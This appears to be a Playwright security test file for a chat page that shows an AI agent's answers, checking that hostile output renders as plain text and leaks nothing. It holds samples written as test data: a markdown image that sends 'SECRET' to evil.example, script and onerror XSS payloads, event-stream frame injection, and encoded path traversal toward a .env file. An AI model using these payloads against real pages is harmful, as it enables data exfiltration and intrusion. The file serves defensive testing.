import { setTimeout } from 'node:timers/promises'
import type { Page } from '@playwright/test'
import { type ChatWorld, startChatWorld } from '#test/support/chat-world.ts'
import { expect, test } from './fixtures.ts'

// What a model, or who speaks through it, may try on the page that shows its words. Each case has its id in its name.

const HOSTILE: readonly (readonly [id: string, what: string, text: string])[] = [
  [
    'L08',
    'a picture that would tell a stranger',
    '![x](https://evil.example/?d=SECRET) [go](https://evil.example/) now',
  ],
  ['W02', 'the end of a script and another one', '</script><script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['W06', 'the frames of an event stream', 'data: x\n\nevent: evil\ndata: y'],
]

test.describe('hostile words in a chat', () => {
  let world: ChatWorld

  test.beforeAll(async ({ browserMissing }) => {
    if (browserMissing !== undefined) return
    world = await startChatWorld({ 'a.py': 'x = 1\n' })
    const system_prompt = 'Write Python.'
    for (const [id] of HOSTILE) {
      await world.client.ok('create_agent', { agent_id: id, name: id, managed_file: `${id}.py`, system_prompt })
    }
    await world.client.ok('create_agent', { agent_id: 'a', name: 'a', managed_file: 'a.py', system_prompt })
  })

  test.afterAll(() => world?.stop())

  /** Requests to other hosts, and dialogs of scripts: there must be none. */
  async function watch(page: Page): Promise<string[]> {
    const seen: string[] = []
    const { host } = new URL(world.stack.pageUrl)
    page.on('request', (request) => {
      if (new URL(request.url()).host !== host) seen.push(request.url())
    })
    page.on('dialog', (dialog) => {
      seen.push(`dialog ${dialog.message()}`)
      void dialog.dismiss()
    })
    return seen
  }

  for (const [id, what, text] of HOSTILE) {
    test(`${id}: ${what} is shown as the text that it is, while it is written and afterwards`, async ({
      page,
      complaints,
    }) => {
      const seen = await watch(page)
      world.answer(text.slice(0, 20), text)
      await world.open(page, id)
      world.server.fail({ kind: 'silence', afterPieces: 2, pieceMs: 700 })
      await page.getByLabel(`Task for ${id}`).fill(text)
      await page.getByText('Ask', { exact: true }).click()
      await page.getByRole('button', { name: 'Send' }).click()
      const start = /^\s*\S+\s+\S+/.exec(text)?.[0] ?? ''
      const live = page.getByLabel('The answer as it is written').locator('pre')
      await expect.poll(() => live.textContent()).toContain(start)
      await page.getByRole('button', { name: 'Stop', exact: true }).click()
      await expect(page.getByRole('button', { name: 'Stop', exact: true })).toHaveCount(0)

      await page.getByLabel(`Task for ${id}`).fill(text)
      await page.getByRole('button', { name: 'Send' }).click()
      const turn = page.getByRole('list', { name: 'Conversation, newest first' }).locator('> li').first()
      await expect(turn.getByText('1 attempt')).toBeVisible()
      const shown = turn.locator('.message-text')
      await expect(shown).toHaveCount(2)
      for (const message of await shown.all()) expect(await message.textContent()).toBe(text)
      expect(await turn.locator('img, script, a, iframe, object').count()).toBe(0)
      await setTimeout(200)
      expect(seen).toEqual([])
      expect(complaints.policyViolations()).toBe(0)
    })
  }

  test('W04: the page sets no cookie, and takes none for a session', async ({ page, context }) => {
    await world.open(page, 'a')
    expect(await context.cookies()).toEqual([])
    const { status } = await fetch(world.stack.url, {
      method: 'POST',
      headers: { 'content-type': 'application/json', cookie: `__Host-session=${world.stack.token}` },
      body: '{"jsonrpc":"2.0","id":1,"method":"tools/list"}',
    })
    expect(status).toBe(401)
  })

  for (const path of ['..%2f.env', 'web/assets/..%2f..%2f.env', 'web/assets/%2e%2e%2findex.html']) {
    test(`W05: /${path} is not found`, async () => {
      const answer = await fetch(`${world.stack.pageUrl}${path}`)
      expect(answer.status).toBe(404)
      expect(await answer.text()).not.toContain(world.stack.token)
    })
  }

  test('W07: a failure of the server shows no stack, no environment, and no way into its sources', async ({
    page,
    complaints,
  }) => {
    complaints.allow(/status of 500/)
    const inside = 'Error: secret at file:///srv/functions/app.ts:12 PATH=/usr/bin'
    await world.open(page, 'a')
    await page.route('**/mcp', (route) => route.fulfill({ status: 500, contentType: 'text/plain', body: inside }))
    await page.getByLabel('Task for a').fill('Anything')
    await page.getByRole('button', { name: 'Send' }).click()
    await expect(page.getByRole('alert').filter({ hasText: 'Cannot reach the server' })).toBeVisible()
    expect(await page.content()).not.toContain('secret')
    for (const name of await page
      .locator('script[src]')
      .evaluateAll((all) => all.map((each) => String(Reflect.get(each, 'src'))))) {
      expect((await fetch(`${name}.map`)).status).toBe(404)
      expect(await (await fetch(name)).text()).not.toContain('sourceMappingURL')
    }
  })
})
